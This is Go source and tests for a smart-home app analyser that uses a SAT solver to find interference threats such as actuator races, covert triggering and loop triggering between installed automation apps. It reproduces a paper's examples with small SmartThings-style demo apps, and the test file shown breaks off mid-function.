		for _, r2 := range appB.Rules.Rules {
			out = append(out, d.DetectPair(appA, r1, appB, r2)...)
		}
	}
	return out
}

// Accept records that the user decided to keep an interfering pair; later
// installations search for chains through accepted pairs (Sec. VI-D).
func (d *Detector) Accept(t Threat) { d.accepted = append(d.accepted, t) }

// Reconfigure replaces an installed app's configuration (the updated()
// lifecycle path: "whenever a new app is installed or the configuration of
// an installed app is updated") and re-runs detection between that app and
// every other installed app. It returns the threats under the new
// configuration, or nil when the app is not installed.
func (d *Detector) Reconfigure(appName string, cfg *Config) []Threat {
	var target *InstalledApp
	for _, a := range d.apps {
		if a.Info.Name == appName {
			target = a
			break
		}
	}
	if target == nil {
		return nil
	}
	if cfg == nil {
		cfg = NewConfig()
	}
	target.Config = cfg
	// Drop cached solving results involving the app: config substitutions
	// change the formulas behind the cached keys. Entries record their
	// participant apps exactly, so only keys the new binding invalidates
	// go — substring matching over keys would both over-evict (app "Lock"
	// clearing entries of "Auto Lock") and rot if the key format changed.
	for k, r := range d.satCache {
		if r.apps[0] == appName || r.apps[1] == appName {
			delete(d.satCache, k)
		}
	}
	// The new bindings change the app's canonical footprint and its
	// verdict signature; recompute both before re-pairing.
	d.prepare(target)
	var threats []Threat
	threats = append(threats, d.appPairThreats(target, target)...)
	for _, other := range d.apps {
		if other == target {
			continue
		}
		threats = append(threats, d.appPairThreats(other, target)...)
	}
	return threats
}

// DetectPair runs all seven detections over one ordered rule pair,
// reporting any threats found.
func (d *Detector) DetectPair(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) []Threat {
	d.stats.PairsChecked++
	var out []Threat

	// --- Action-Interference: AR then GC ---
	if t, ok := d.detectAR(appA, r1, appB, r2); ok {
		out = append(out, t)
	}
	if t, ok := d.detectGC(appA, r1, appB, r2); ok {
		out = append(out, t)
	}

	// --- Trigger-Interference: CT both directions, then SD / LT ---
	ct12, okCT12 := d.detectCT(appA, r1, appB, r2)
	ct21, okCT21 := d.detectCT(appB, r2, appA, r1)
	arCand := d.contradictoryActions(appA, r1, appB, r2)
	if okCT12 {
		out = append(out, ct12)
	}
	if okCT21 {
		out = append(out, ct21)
	}
	if okCT12 && arCand {
		sd := ct12
		sd.Kind = SelfDisabling
		sd.Note = "triggered rule reverses the triggering rule's action"
		d.stats.Found[SelfDisabling]++
		out = append(out, sd)
	}
	if okCT21 && arCand && !okCT12 {
		sd := ct21
		sd.Kind = SelfDisabling
		sd.Note = "triggered rule reverses the triggering rule's action"
		d.stats.Found[SelfDisabling]++
		out = append(out, sd)
	}
	if okCT12 && okCT21 && arCand {
		lt := ct12
		lt.Kind = LoopTriggering
		lt.Note = "rules trigger each other with contradictory actions"
		d.stats.Found[LoopTriggering]++
		out = append(out, lt)
	}

	// --- Condition-Interference: EC/DC both directions ---
	if t, ok := d.detectCondInterference(appA, r1, appB, r2); ok {
		out = append(out, t)
	}
	if t, ok := d.detectCondInterference(appB, r2, appA, r1); ok {
		out = append(out, t)
	}
	return out
}

// ---------- shared solving with reuse ----------

// track begins timing a detection stage for one threat kind; the returned
// function finishes it, attributing solver time to SolveNS and the rest
// (candidate filtering and formula construction) to FilterNS.
func (d *Detector) track(k Kind) func() {
	d.curKind = k
	start := time.Now()
	solve0 := d.stats.SolveNS[k]
	return func() {
		total := time.Since(start).Nanoseconds()
		solved := d.stats.SolveNS[k] - solve0
		d.stats.FilterNS[k] += total - solved
	}
}

// solveSAT decides satisfiability of a conjunction, caching by key. apps
// names the (up to) two apps whose rules produced the formulas; Reconfigure
// uses it to evict exactly the entries a config change invalidates.
func (d *Detector) solveSAT(key string, apps [2]string, formulas ...rule.Constraint) (solver.Model, bool) {
	if !d.opts.DisableReuse && key != "" {
		if r, ok := d.satCache[key]; ok {
			d.stats.SolverCacheHits++
			return r.witness, r.sat
		}
	}
	d.stats.SolverCalls++
	solveStart := time.Now()
	defer func() {
		d.stats.SolveNS[d.curKind] += time.Since(solveStart).Nanoseconds()
	}()
	p := solver.NewProblem()
	d.declareVars(p, formulas...)
	for _, f := range formulas {
		p.AddConstraint(f)
	}
	m, sat, err := p.Solve()
	if err != nil {
		// Search-limit exhaustion: be conservative and report
		// satisfiable-without-witness (a potential threat is surfaced to
		// the user rather than hidden).
		m, sat = nil, true
	}
	if !d.opts.DisableReuse && key != "" {
		d.satCache[key] = satResult{sat: sat, witness: m, apps: apps}
	}
	return m, sat
}

// pairApps names the two participant apps of a rule pair for satCache
// eviction bookkeeping.
func pairApps(r1, r2 *rule.Rule) [2]string { return [2]string{r1.App, r2.App} }

// overlapKey identifies the merged-situation query for a rule pair
// (unordered), enabling the AR→CT/SD/LT reuse.
func overlapKey(r1, r2 *rule.Rule) string {
	a, b := r1.QualifiedID(), r2.QualifiedID()
	if b < a {
		a, b = b, a
	}
	return "overlap:" + a + "|" + b
}

func condKey(r1, r2 *rule.Rule) string {
	a, b := r1.QualifiedID(), r2.QualifiedID()
	if b < a {
		a, b = b, a
	}
	return "cond:" + a + "|" + b
}

// situationsOverlap checks SAT(T1 ∧ C1 ∧ T2 ∧ C2) — the paper's
// overlapping-condition detection for Action-Interference.
func (d *Detector) situationsOverlap(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (solver.Model, bool) {
	f1 := d.situationFormula(appA, r1)
	f2 := d.situationFormula(appB, r2)
	return d.solveSAT(overlapKey(r1, r2), pairApps(r1, r2), f1, f2)
}

// conditionsOverlap checks SAT(C1 ∧ C2) for Trigger-Interference. When the
// merged-situation query for the same pair was already solved satisfiable
// (the AR/GC check), its result is reused: T1∧C1∧T2∧C2 SAT implies
// C1∧C2 SAT (the Fig. 9 AR→CT/SD/LT green arrow).
func (d *Detector) conditionsOverlap(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (solver.Model, bool) {
	if !d.opts.DisableReuse {
		if r, ok := d.satCache[overlapKey(r1, r2)]; ok && r.sat {
			d.stats.SolverCacheHits++
			return r.witness, true
		}
	}
	f1 := d.conditionFormula(appA, r1)
	f2 := d.conditionFormula(appB, r2)
	return d.solveSAT(condKey(r1, r2), pairApps(r1, r2), f1, f2)
}

// ---------- AR ----------

// contradictoryActions reports whether two actions contradict on the same
// actuator: contradictory commands, or the same command with conflicting
// parameters.
func (d *Detector) contradictoryActions(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) bool {
	e1 := d.actionEffects(appA, r1)
	e2 := d.actionEffects(appB, r2)
	for _, a := range e1 {
		for _, b := range e2 {
			if a.varName != b.varName {
				continue
			}
			av, aConst := a.value.(rule.StrVal)
			bv, bConst := b.value.(rule.StrVal)
			if aConst && bConst {
				if av != bv {
					return true
				}
				continue
			}
			ai, aInt := a.value.(rule.IntVal)
			bi, bInt := b.value.(rule.IntVal)
			if aInt && bInt {
				if ai != bi {
					return true
				}
				continue
			}
			// Parameterised commands (setLevel with symbolic params):
			// conflicting unless provably equal.
			if a.value.String() != b.value.String() {
				return true
			}
		}
	}
	return false
}

// detectAR implements Actuator Race detection (Sec. VI-A).
func (d *Detector) detectAR(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (Threat, bool) {
	defer d.track(ActuatorRace)()
	if !d.contradictoryActions(appA, r1, appB, r2) {
		if d.opts.DisableFiltering {
			d.situationsOverlap(appA, r1, appB, r2) // ablation: solve anyway
		}
		return Threat{}, false
	}
	d.stats.Candidates[ActuatorRace]++
	witness, sat := d.situationsOverlap(appA, r1, appB, r2)
	if !sat {
		return Threat{}, false
	}
	d.stats.Found[ActuatorRace]++
	return Threat{
		Kind: ActuatorRace, R1: r1, R2: r2, Witness: witness,
		Note: fmt.Sprintf("contradictory commands %s vs %s on the same actuator",
			r1.Action.Command, r2.Action.Command),
	}, true
}

// ---------- GC ----------

// detectGC implements Goal Conflict detection: opposite environment
// effects on a shared goal property plus overlapping situations.
func (d *Detector) detectGC(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (Threat, bool) {
	defer d.track(GoalConflict)()
	ef1 := d.envEffects(appA, r1)
	ef2 := d.envEffects(appB, r2)
	if len(ef1) == 0 || len(ef2) == 0 {
		if d.opts.DisableFiltering {
			d.situationsOverlap(appA, r1, appB, r2) // ablation: solve anyway
		}
		return Threat{}, false
	}
	// Same-actuator contradictions are Actuator Races, not Goal Conflicts.
	sameDevice := d.sameActionDevice(appA, r1, appB, r2)
	var prop envmodel.Property
	for _, p := range envmodel.Properties {
		if envmodel.Opposite(ef1[p], ef2[p]) && !sameDevice {
			prop = p
			break
		}
	}
	if prop == "" {
		return Threat{}, false
	}
	d.stats.Candidates[GoalConflict]++
	witness, sat := d.situationsOverlap(appA, r1, appB, r2)
	if !sat {
		return Threat{}, false
	}
	d.stats.Found[GoalConflict]++
	return Threat{
		Kind: GoalConflict, R1: r1, R2: r2, Property: prop, Witness: witness,
		Note: fmt.Sprintf("%s(%s) and %s(%s) have opposite effects on %s",
			r1.Action.Subject, r1.Action.Command, r2.Action.Subject, r2.Action.Command, prop),
	}, true
}

func (d *Detector) sameActionDevice(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) bool {
	inA := appA.Info.Input(r1.Action.Subject)
	inB := appB.Info.Input(r2.Action.Subject)
	if inA == nil || inB == nil {
		return r1.Action.Subject == r2.Action.Subject
	}
	return d.deviceKey(appA, r1.Action.Subject) == d.deviceKey(appB, r2.Action.Subject)
}

// ---------- CT ----------

// detectCT implements directed Covert Triggering detection: R1's action
// triggers R2 either directly (device state) or via the environment.
func (d *Detector) detectCT(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (Threat, bool) {
	defer d.track(CovertTriggering)()
	trigProp, channel := d.triggerChannel(appA, r1, appB, r2)
	if channel == "" {
		if d.opts.DisableFiltering {
			d.conditionsOverlap(appA, r1, appB, r2) // ablation: solve anyway
		}
		return Threat{}, false
	}
	d.stats.Candidates[CovertTriggering]++
	witness, sat := d.conditionsOverlap(appA, r1, appB, r2)
	if !sat {
		return Threat{}, false
	}
	d.stats.Found[CovertTriggering]++
	return Threat{
		Kind: CovertTriggering, R1: r1, R2: r2, Property: trigProp, Witness: witness,
		Note: channel,
	}, true
}

// triggerChannel decides whether A1 can fire T2, returning a description
// of the channel ("" when none).
func (d *Detector) triggerChannel(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (envmodel.Property, string) {
	t2 := r2.Trigger
	if t2.Subject == "app" || t2.Subject == "time" {
		return "", "" // app-touch and schedules cannot be fired by actions
	}
	// Direct channel: A1 changes the very attribute T2 subscribes to.
	t2Var := d.canonTriggerVar(appB, r2)
	for _, eff := range d.actionEffects(appA, r1) {
		if eff.varName != t2Var {
			continue
		}
		if t2.AnyChange() {
			return "", fmt.Sprintf("action %s(%s) changes %s which triggers the rule",
				r1.Action.Subject, r1.Action.Command, t2Var)
		}
		// Check the trigger constraint against the effect value.
		f := d.canonFormula(appB, t2.Constraint)
		_, sat := d.solveSAT("", [2]string{}, f, eff.constraint())
		if sat {
			return "", fmt.Sprintf("action %s(%s) sets %s to the triggering value",
				r1.Action.Subject, r1.Action.Command, t2Var)
		}
		return "", ""
	}
	// Environment channel: A1 shifts a property sensed by T2's subject.
	prop, ok := envmodel.AttributeProperty(t2.Attribute)
	if !ok {
		return "", ""
	}
	effects := d.envEffects(appA, r1)
	sign := effects[prop]
	if sign == envmodel.None {
		return "", ""
	}
	if !d.signMatchesTrigger(appB, r2, sign) {
		return "", ""
	}
	return prop, fmt.Sprintf("action %s(%s) drives %s (%s) sensed by %s",
		r1.Action.Subject, r1.Action.Command, prop, sign, t2.Subject)
}

// canonTriggerVar is the canonical variable T2 subscribes to.
func (d *Detector) canonTriggerVar(app *InstalledApp, r *rule.Rule) string {
	t := r.Trigger
	if t.Subject == "location" {
		return "location." + t.Attribute
	}
	if in := app.Info.Input(t.Subject); in != nil && in.IsDevice() {
		return d.deviceKey(app, t.Subject) + "." + t.Attribute
	}
	return app.Info.Name + "!" + t.EventVar()
}

// signMatchesTrigger checks whether an environment drift direction can
// satisfy the trigger's one-sided bound (any-change triggers always match).
func (d *Detector) signMatchesTrigger(app *InstalledApp, r *rule.Rule, sign envmodel.Sign) bool {
	if r.Trigger.AnyChange() || sign == envmodel.Varies {
		return true
	}
	dir := boundDirection(r.Trigger.Constraint)
	switch dir {
	case +1:
		return sign == envmodel.Increase
	case -1:
		return sign == envmodel.Decrease
	default:
		return true
	}
}

// boundDirection inspects a constraint for a one-sided numeric bound:
// +1 for >/>=, -1 for </<=, 0 otherwise.
func boundDirection(c rule.Constraint) int {
	switch x := c.(type) {
	case rule.Cmp:
		lIsVar := false
		if v, ok := x.L.(rule.Var); ok && v.Kind != rule.VarUserInput {
			lIsVar = true
		}
		switch x.Op {
		case rule.OpGt, rule.OpGe:
			if lIsVar {
				return +1
			}
			return -1
		case rule.OpLt, rule.OpLe:
			if lIsVar {
				return -1
			}
			return +1
		}
	case rule.And:
		for _, sub := range x.Cs {
			if dir := boundDirection(sub); dir != 0 {
				return dir
			}
		}
	}
	return 0
}

// ---------- EC / DC ----------

// detectCondInterference implements directed Enabling/Disabling-Condition
// detection: does A1 change the satisfaction of C2?
func (d *Detector) detectCondInterference(appA *InstalledApp, r1 *rule.Rule, appB *InstalledApp, r2 *rule.Rule) (Threat, bool) {
	defer d.track(EnablingCondition)()
	if r2.Condition.Always() {
		return Threat{}, false
	}
	condF := d.conditionFormula(appB, r2)
	condVars := rule.VarSet(condF)

	// Candidate check: A1 touches a device attribute in C2, or an
	// environment property sensed by a variable in C2.
	var effectCs []rule.Constraint
	var prop envmodel.Property
	touched := false
	for _, eff := range d.actionEffects(appA, r1) {
		if _, ok := condVars[eff.varName]; ok {
			touched = true
			effectCs = append(effectCs, eff.constraint())
		}
	}
	if !touched {
		envEf := d.envEffects(appA, r1)
		for name := range condVars {
			attr := name
			if dot := strings.LastIndexByte(name, '.'); dot >= 0 {
				attr = name[dot+1:]
			}
			p, ok := envmodel.AttributeProperty(attr)
			if !ok {
				continue
			}
			if envEf[p] != envmodel.None {
				touched = true
				prop = p
				// Setpoint-style parametrised effects produce a bound on
				// the sensed variable (the paper's thermostat example).
				if bc := d.setpointBound(appA, r1, name); bc != nil {
					effectCs = append(effectCs, bc)
				}
				break
			}
		}
	}
	if !touched {
		if d.opts.DisableFiltering {
			key := "ec:" + r1.QualifiedID() + "|" + r2.QualifiedID()
			d.solveSAT(key, pairApps(r1, r2), condF) // ablation: solve anyway
		}
		return Threat{}, false
	}
	d.stats.Candidates[EnablingCondition]++

	// Merge the effect constraints with C2: SAT ⇒ may enable (EC);
	// UNSAT ⇒ disables (DC).
	key := "ec:" + r1.QualifiedID() + "|" + r2.QualifiedID()
	witness, sat := d.solveSAT(key, pairApps(r1, r2), append([]rule.Constraint{condF}, effectCs...)...)
	if sat {
		d.stats.Found[EnablingCondition]++
		return Threat{
			Kind: EnablingCondition, R1: r1, R2: r2, Property: prop, Witness: witness,
			Note: "action can make the other rule's condition satisfiable",
		}, true
	}
	d.stats.Found[DisablingCond]++
	return Threat{
		Kind: DisablingCond, R1: r1, R2: r2, Property: prop,
		Note: "action makes the other rule's condition unsatisfiable",
	}, true
}

// setpointBound models parameterised thermostat-style effects: setting a
// heating setpoint to T bounds the sensed temperature variable from below.
func (d *Detector) setpointBound(app *InstalledApp, r *rule.Rule, sensedVar string) rule.Constraint {
	cmd := r.Action.Command
	if len(r.Action.Params) == 0 {
		return nil
	}
	t := d.canonTerm(app, r.Action.Params[0])
	v := rule.Var{Name: sensedVar, Kind: rule.VarDeviceAttr, Type: rule.TypeInt}
	switch cmd {
	case "setHeatingSetpoint":
		return rule.Cmp{Op: rule.OpGe, L: v, R: t}
	case "setCoolingSetpoint":
		return rule.Cmp{Op: rule.OpLe, L: v, R: t}
	}
	return nil
}

// ---------- chained threats (Sec. VI-D) ----------

// Chain is a sequence of rules linked by accepted or newly found
// interferences.
type Chain struct {
	Rules []*rule.Rule
	Kinds []Kind
}

func (c Chain) String() string {
	var parts []string
	for i, r := range c.Rules {
		parts = append(parts, r.QualifiedID())
		if i < len(c.Kinds) {
			parts = append(parts, "-"+string(c.Kinds[i])+"->")
		}
	}
	return strings.Join(parts, " ")
}

// FindChains searches the digraph of accepted pairs plus the given new
// threats for interference chains of length >= 2 hops involving the new
// threats.
func (d *Detector) FindChains(newThreats []Threat, maxLen int) []Chain {
	if maxLen <= 0 {
		maxLen = 4
	}
	type edge struct {
		to   *rule.Rule
		kind Kind
	}
	adj := map[string][]edge{}
	nodes := map[string]*rule.Rule{}
	addEdge := func(t Threat) {
		// Only trigger/condition interference propagates effects onward.
		switch t.Kind {
		case CovertTriggering, SelfDisabling, LoopTriggering, EnablingCondition, DisablingCond:
			adj[t.R1.QualifiedID()] = append(adj[t.R1.QualifiedID()], edge{to: t.R2, kind: t.Kind})
			nodes[t.R1.QualifiedID()] = t.R1
			nodes[t.R2.QualifiedID()] = t.R2
		}
	}
	for _, t := range d.accepted {
		addEdge(t)
	}
	for _, t := range newThreats {
		addEdge(t)
	}
	var chains []Chain
	var dfs func(cur *rule.Rule, path []*rule.Rule, kinds []Kind, onPath map[string]bool)
	dfs = func(cur *rule.Rule, path []*rule.Rule, kinds []Kind, onPath map[string]bool) {
		if len(path) > maxLen {
			return
		}
		if len(path) >= 3 {
			chains = append(chains, Chain{
				Rules: append([]*rule.Rule(nil), path...),
				Kinds: append([]Kind(nil), kinds...),
			})
		}
		for _, e := range adj[cur.QualifiedID()] {
			id := e.to.QualifiedID()
			if onPath[id] {
				continue
			}
			onPath[id] = true
			dfs(e.to, append(path, e.to), append(kinds, e.kind), onPath)
			delete(onPath, id)
		}
	}
	for id, r := range nodes {
		dfs(r, []*rule.Rule{r}, nil, map[string]bool{id: true})
	}
	sort.Slice(chains, func(i, j int) bool { return chains[i].String() < chains[j].String() })
	return dedupeChains(chains)
}

func dedupeChains(in []Chain) []Chain {
	var out []Chain
	seen := map[string]bool{}
	for _, c := range in {
		k := c.String()
		if !seen[k] {
			seen[k] = true
			out = append(out, c)
		}
	}
	return out
}
