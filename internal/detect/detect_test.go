package detect

import (
	"errors"
	"testing"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

// ---- the paper's five demo apps (Figures 3, 4, 5) ----

const comfortTVSrc = `
definition(name: "ComfortTV", namespace: "repro", author: "x",
    description: "Open the window when the TV turns on and it is hot.", category: "Convenience")
input "tv1", "capability.switch"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number"
input "window1", "capability.switch"
def installed() { subscribe(tv1, "switch", onHandler) }
def updated() { unsubscribe(); subscribe(tv1, "switch", onHandler) }
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
`

const coldDefenderSrc = `
definition(name: "ColdDefender", namespace: "repro", author: "x",
    description: "Close the window when the TV is on while it rains.", category: "Safety")
input "tv1", "capability.switch"
input "window1", "capability.switch"
input "weather", "enum", options: ["sunny", "rainy", "cloudy"]
def installed() { subscribe(tv1, "switch.on", onHandler) }
def updated() { unsubscribe(); subscribe(tv1, "switch.on", onHandler) }
def onHandler(evt) {
    if (weather == "rainy") {
        window1.off()
    }
}
`

const catchLiveShowSrc = `
definition(name: "CatchLiveShow", namespace: "repro", author: "x",
    description: "Turn on the TV remotely when a voice message arrives on Thursdays.", category: "Fun")
input "tv1", "capability.switch"
input "dayOfWeek", "enum", options: ["Monday","Thursday","Sunday"]
def installed() { subscribe(app, appTouch) }
def updated() { subscribe(app, appTouch) }
def appTouch(evt) {
    if (dayOfWeek == "Thursday") {
        tv1.on()
    }
}
`

const burglarFinderSrc = `
definition(name: "BurglarFinder", namespace: "repro", author: "x",
    description: "Sound the alarm on midnight motion while the floor lamp is on.", category: "Safety")
input "motion1", "capability.motionSensor"
input "lamp1", "capability.switch"
input "alarm1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (lamp1.currentSwitch == "on" && location.mode == "Night") {
        alarm1.siren()
    }
}
`

const nightCareSrc = `
definition(name: "NightCare", namespace: "repro", author: "x",
    description: "Turn the floor lamp off 5 minutes after it turns on while sleeping.", category: "Green Living")
input "lamp1", "capability.switch"
def installed() { subscribe(lamp1, "switch.on", onLamp) }
def updated() { unsubscribe(); subscribe(lamp1, "switch.on", onLamp) }
def onLamp(evt) {
    if (location.mode == "Night") {
        runIn(300, lampOff)
    }
}
def lampOff() {
    lamp1.off()
}
`

func installApp(t *testing.T, d *Detector, src string, cfg *Config) []Threat {
	t.Helper()
	res, err := symexec.Extract(src, "")
	if err != nil {
		t.Fatalf("extract: %v", err)
	}
	return d.Install(NewInstalledApp(res, cfg))
}

func hasKind(threats []Threat, k Kind) *Threat {
	for i := range threats {
		if threats[i].Kind == k {
			return &threats[i]
		}
	}
	return nil
}

func sharedTVWindowConfig(tvID, winID string) *Config {
	cfg := NewConfig()
	cfg.Devices["tv1"] = tvID
	cfg.Devices["window1"] = winID
	cfg.DeviceTypes["window1"] = envmodel.WindowOpener
	cfg.DeviceTypes["tv1"] = envmodel.TV
	return cfg
}

// TestFig3ActuatorRace reproduces the paper's Fig. 3: ComfortTV opens the
// window, ColdDefender closes it, both when the TV turns on — a race when
// it is hot and raining.
func TestFig3ActuatorRace(t *testing.T) {
	d := New(Options{})
	cfg1 := sharedTVWindowConfig("dev-tv", "dev-window")
	cfg1.Values["threshold1"] = rule.IntVal(30)
	installApp(t, d, comfortTVSrc, cfg1)
	threats := installApp(t, d, coldDefenderSrc, sharedTVWindowConfig("dev-tv", "dev-window"))

	ar := hasKind(threats, ActuatorRace)
	if ar == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Actuator Race not detected (paper Fig. 3)")
	}
	// The witness should be the overlapping situation: TV on, hot, rainy.
	if ar.Witness != nil {
		if v, ok := ar.Witness["dev-tv.switch"]; ok && v.Enum != "on" {
			t.Errorf("witness TV state = %v, want on", v)
		}
		if v, ok := ar.Witness["dev-tSensor.temperature"]; ok && v.Int <= 30 {
			t.Errorf("witness temperature = %v, want > 30", v)
		}
	}
}

// TestFig3NoRaceDifferentWindows: same apps but configured with different
// physical windows — no race.
func TestFig3NoRaceDifferentWindows(t *testing.T) {
	d := New(Options{})
	cfg1 := sharedTVWindowConfig("dev-tv", "dev-window-A")
	installApp(t, d, comfortTVSrc, cfg1)
	threats := installApp(t, d, coldDefenderSrc, sharedTVWindowConfig("dev-tv", "dev-window-B"))
	if ar := hasKind(threats, ActuatorRace); ar != nil {
		t.Errorf("false AR on different devices: %s", *ar)
	}
}

// TestFig4CovertTriggering reproduces Fig. 4: CatchLiveShow turns the TV
// on, which covertly triggers ComfortTV's window-opening rule.
func TestFig4CovertTriggering(t *testing.T) {
	d := New(Options{})
	cfg1 := sharedTVWindowConfig("dev-tv", "dev-window")
	installApp(t, d, comfortTVSrc, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["tv1"] = "dev-tv"
	threats := installApp(t, d, catchLiveShowSrc, cfg2)

	ct := hasKind(threats, CovertTriggering)
	if ct == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Covert Triggering not detected (paper Fig. 4)")
	}
	// Direction: CatchLiveShow (R1) triggers ComfortTV (R2).
	if ct.R1.App != "CatchLiveShow" || ct.R2.App != "ComfortTV" {
		t.Errorf("CT direction = %s -> %s", ct.R1.App, ct.R2.App)
	}
}

// TestFig5DisablingCondition reproduces Fig. 5: NightCare turns the lamp
// off, disabling BurglarFinder's lamp-on condition.
func TestFig5DisablingCondition(t *testing.T) {
	d := New(Options{})
	cfgB := NewConfig()
	cfgB.Devices["lamp1"] = "dev-lamp"
	cfgB.DeviceTypes["lamp1"] = envmodel.LightDev
	installApp(t, d, burglarFinderSrc, cfgB)
	cfgN := NewConfig()
	cfgN.Devices["lamp1"] = "dev-lamp"
	cfgN.DeviceTypes["lamp1"] = envmodel.LightDev
	threats := installApp(t, d, nightCareSrc, cfgN)

	dc := hasKind(threats, DisablingCond)
	if dc == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Disabling-Condition interference not detected (paper Fig. 5)")
	}
	if dc.R1.App != "NightCare" || dc.R2.App != "BurglarFinder" {
		t.Errorf("DC direction = %s -> %s", dc.R1.App, dc.R2.App)
	}
}

const itsTooHotSrc = `
definition(name: "ItsTooHot", namespace: "repro", author: "x",
    description: "Turn on the air conditioner when it is hot.", category: "Comfort")
input "tSensor", "capability.temperatureMeasurement"
input "ac1", "capability.switch"
input "hot", "number"
def installed() { subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue > hot) {
        ac1.on()
    }
}
`

const energySaverSrc = `
definition(name: "EnergySaver", namespace: "repro", author: "x",
    description: "Turn off heavy loads when electricity usage is over a threshold.", category: "Green Living")
input "meter", "capability.powerMeter"
input "ac1", "capability.switch"
input "maxW", "number"
def installed() { subscribe(meter, "power", onPower) }
def onPower(evt) {
    if (evt.doubleValue > maxW) {
        ac1.off()
    }
}
`

// TestSelfDisabling reproduces the It'sTooHot / EnergySaver example
// (Sec. III-B): turning on the AC raises power draw, which triggers
// EnergySaver to turn the AC off again.
func TestSelfDisabling(t *testing.T) {
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["ac1"] = "dev-ac"
	cfg1.DeviceTypes["ac1"] = envmodel.AirConditioner
	installApp(t, d, itsTooHotSrc, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["ac1"] = "dev-ac"
	cfg2.DeviceTypes["ac1"] = envmodel.AirConditioner
	threats := installApp(t, d, energySaverSrc, cfg2)

	sd := hasKind(threats, SelfDisabling)
	if sd == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Self Disabling not detected (It'sTooHot/EnergySaver)")
	}
}

// TestLoopTriggering reproduces the LightUpTheNight loop (Sec. III-B):
// below 30 lux turn the lights on, above 50 lux turn them off; the lights
// themselves drive the illuminance reading.
func TestLoopTriggering(t *testing.T) {
	lightUp := `
definition(name: "LightUpTheNight", namespace: "repro", author: "x",
    description: "Keep the room lit: on when dark, off when bright.", category: "Convenience")
input "lux1", "capability.illuminanceMeasurement"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(lux1, "illuminance", onLux) }
def onLux(evt) {
    if (evt.integerValue < 30) {
        lights.on()
    } else if (evt.integerValue > 50) {
        lights.off()
    }
}
`
	d := New(Options{})
	cfg := NewConfig()
	cfg.Devices["lights"] = "dev-lights"
	cfg.DeviceTypes["lights"] = envmodel.LightDev
	threats := installApp(t, d, lightUp, cfg)

	lt := hasKind(threats, LoopTriggering)
	if lt == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Loop Triggering not detected (LightUpTheNight)")
	}
}

// TestGoalConflict reproduces Sec. III-A's inter-actuator conflict: one
// rule turns on a heater, the other opens the window when the room is
// dark; the two actions contradict over heating the room.
func TestGoalConflict(t *testing.T) {
	heaterApp := `
definition(name: "WarmMorning", namespace: "repro", author: "x",
    description: "Turn on the heater in the morning.", category: "Comfort")
input "motion1", "capability.motionSensor"
input "heater1", "capability.switch"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) { heater1.on() }
`
	windowApp := `
definition(name: "FreshAir", namespace: "repro", author: "x",
    description: "Open the window when the room is too dark.", category: "Comfort")
input "lux1", "capability.illuminanceMeasurement"
input "window1", "capability.switch"
def installed() { subscribe(lux1, "illuminance", onLux) }
def onLux(evt) {
    if (evt.integerValue < 20) {
        window1.on()
    }
}
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["heater1"] = "dev-heater"
	cfg1.DeviceTypes["heater1"] = envmodel.Heater
	installApp(t, d, heaterApp, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["window1"] = "dev-window"
	cfg2.DeviceTypes["window1"] = envmodel.WindowOpener
	threats := installApp(t, d, windowApp, cfg2)

	gc := hasKind(threats, GoalConflict)
	if gc == nil {
		for _, th := range threats {
			t.Logf("threat: %s", th)
		}
		t.Fatal("Goal Conflict not detected (heater vs window)")
	}
	if gc.Property != envmodel.Temperature {
		t.Errorf("conflict property = %s, want temperature", gc.Property)
	}
}

// TestEnablingCondition: one rule turns the heater on; another rule's
// condition requires the heater to be on — EC.
func TestEnablingCondition(t *testing.T) {
	heaterOn := `
definition(name: "MorningHeat", namespace: "repro", author: "x",
    description: "Heat in the morning.", category: "Comfort")
input "motion1", "capability.motionSensor"
input "heater1", "capability.switch"
def installed() { subscribe(motion1, "motion.active", go) }
def go(evt) { heater1.on() }
`
	humidify := `
definition(name: "HumidifyWhenHeating", namespace: "repro", author: "x",
    description: "Run the humidifier while the heater is on.", category: "Comfort")
input "contact1", "capability.contactSensor"
input "heater1", "capability.switch"
input "hum1", "capability.switch"
def installed() { subscribe(contact1, "contact.closed", go) }
def go(evt) {
    if (heater1.currentSwitch == "on") {
        hum1.on()
    }
}
`
	d := New(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["heater1"] = "dev-heater"
	cfg1.DeviceTypes["heater1"] = envmodel.Heater
	installApp(t, d, heaterOn, cfg1)
	cfg2 := NewConfig()
	cfg2.Devices["heater1"] = "dev-heater"
	cfg2.Devices["hum1"] = "dev-hum"
	cfg2.DeviceTypes["heater1"] = envmodel.Heater
	cfg2.DeviceTypes["hum1"] = envmodel.Humidifier
